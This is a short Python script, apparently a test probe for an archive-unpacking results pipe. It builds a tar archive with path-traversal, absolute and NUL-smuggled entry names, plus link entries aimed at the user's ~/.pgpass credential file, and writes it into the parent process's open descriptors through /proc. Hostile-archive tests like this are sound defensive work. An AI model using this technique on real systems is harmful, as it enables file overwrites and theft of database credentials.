# names with ../ and NUL, put into the pipe of results by hand
# ends: crashed refused ok
# ruff: noqa
import io, os, tarfile

made = io.BytesIO()
with tarfile.open(fileobj=made, mode="w") as archive:
    for name in (f"../../../tmp/{MARK}", f"/tmp/{MARK}", f"intent.json\0../{MARK}", f"out/../../{MARK}"):
        entry = tarfile.TarInfo(name)
        entry.size = 1
        archive.addfile(entry, io.BytesIO(b"x"))
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.GNUTYPE_SPARSE):
        entry = tarfile.TarInfo("intent.json")
        entry.type, entry.linkname, entry.size = kind, HOME + "/.pgpass", 0
        archive.addfile(entry)
parent = os.getppid()
for fd in os.listdir(f"/proc/{parent}/fd"):
    if int(fd) > 2:
        with open(f"/proc/{parent}/fd/{fd}", "wb") as pipe:
            pipe.write(made.getvalue())
os._exit(0)
